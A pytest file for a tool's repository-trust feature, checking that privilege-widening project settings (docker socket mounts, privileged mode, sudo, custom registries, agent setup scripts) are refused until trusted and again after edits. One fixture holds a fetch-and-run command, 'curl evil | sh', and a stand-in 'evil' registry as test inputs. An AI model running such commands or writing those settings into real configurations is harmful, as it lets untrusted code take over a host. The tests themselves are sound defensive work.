"""Repository trust (tsk/config/trust.py): which project keys need it, and the whole flow through the
CLI: refused untrusted, accepted once trusted, refused again when the file (or a file it names) changes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers import make_repo, run_tsk

from tsk.config import ProjectFile, ProjectSettings, UserFile
from tsk.config.schema import EnvVar, LayersConfig, SlotConfig, Volume
from tsk.config.trust import widening_keys


def _keys(user: UserFile | None = None, **settings: object) -> list[str]:
    return widening_keys(ProjectFile(**settings), user or UserFile(), "proj")  # type: ignore[arg-type]


def test_narrowing_keys_need_no_trust() -> None:
    assert _keys(stack="python", agent="codex", setup="RUN true\n", memory_gb=2.0, cpu=1.0, privileged=False,
                 sudo=False, volumes=(Volume(name="cache", container="/c"),),
                 stack_config={"go": SlotConfig(setup="RUN true\n")}) == []


def test_widening_keys_are_named() -> None:
    keys = _keys(volumes=(Volume(name="ok", container="/a"), Volume(host="/var/run/docker.sock", container="/s")),
                 devices=("/dev/kvm",), privileged=True, sudo=True, dind=True, squid_conf="http_access allow all\n",
                 host_ports=(5432,), env=(EnvVar(name="X", value="1"),), memory_gb=64.0,
                 agent_config={"claude": SlotConfig(setup="RUN curl evil | sh\n")},
                 layers=LayersConfig(registry="evil.example.com/x", base_image="evil/base", ca_certs=("ca.crt",)))
    assert keys == ["volumes[1].host", "devices", "host_ports", "env", "privileged", "sudo", "dind", "squid_conf",
                    "agent_config.claude.setup", "memory_gb", "layers.registry", "layers.ca_certs",
                    "layers.base_image"]


def test_memory_compares_with_what_applies_without_the_project_file_and_agents_with_the_users() -> None:
    user = UserFile(defaults=ProjectSettings(memory_gb=32.0, agent_config={"mine": SlotConfig(setup="RUN x\n")}))
    assert _keys(user, memory_gb=16.0, agent="mine") == []  # under the user's own default; the user's agent
    assert _keys(user, memory_gb=48.0, agent="theirs") == ["agent", "memory_gb"]
    pinned = UserFile(project={"proj": ProjectSettings(memory_gb=4.0)})
    assert _keys(pinned, memory_gb=99.0) == []  # the user's [project.proj] decides it anyway


def test_untrusted_widening_is_refused_then_trusted_then_refused_again_after_a_change(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"README.md": "x\n", ".tsk/squid.conf": "http_access allow all\n",
                                         ".tsk/tsk.toml": 'agent = "exec"\nsquid_conf_path = "squid.conf"\n'
                                         'volumes = [{host = "/var/run/docker.sock", container = "/s"}]\n'})
    refused = run_tsk("add", "-p", "true", cwd=repo)
    assert refused.returncode == 2, refused.stderr
    assert "volumes[0].host" in refused.stderr and "squid_conf_path" in refused.stderr
    assert "tsk trust" in refused.stderr and "Traceback" not in refused.stderr
    assert json.loads(run_tsk("list", "--json", cwd=repo).stdout) == []  # nothing was queued

    shown = json.loads(run_tsk("trust", "--show", "--json", cwd=repo).stdout)
    assert shown["trusted"] is False and shown["keys"] == ["volumes[0].host", "squid_conf_path"]
    assert shown["values"]["volumes"][0]["host"] == "/var/run/docker.sock"
    assert run_tsk("trust", cwd=repo).returncode == 0
    assert run_tsk("add", "-p", "true", cwd=repo).returncode == 0

    (repo / ".tsk" / "squid.conf").write_text("http_access allow all\n# changed\n")  # a file it names
    again = run_tsk("add", "-p", "true", cwd=repo)
    assert again.returncode == 2 and "changed since you trusted it" in again.stderr
    assert run_tsk("trust", cwd=repo).returncode == 0 and run_tsk("add", "-p", "true", cwd=repo).returncode == 0
    assert run_tsk("untrust", cwd=repo).returncode == 0
    assert run_tsk("add", "-p", "true", cwd=repo).returncode == 2


def test_secret_env_values_are_hidden_in_trust_show(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"README.md": "x\n", ".tsk/tsk.toml": 'env = [{name = "API_TOKEN", value = '
                                         '"s3cr3t"}, {name = "MODE", value = "dev"}]\n'})
    out = run_tsk("trust", "--show", cwd=repo)
    assert out.returncode == 0 and "s3cr3t" not in out.stdout and "dev" in out.stdout


@pytest.mark.parametrize("text", ['stack = "python"\n', ""])
def test_a_file_that_needs_no_trust_applies_at_once(tmp_path: Path, text: str) -> None:
    files = {"README.md": "x\n"} | ({".tsk/tsk.toml": 'agent = "exec"\n' + text} if text else {})
    repo = make_repo(tmp_path / "repo", files)
    assert run_tsk("add", "-a", "exec", "-p", "true", cwd=repo).returncode == 0
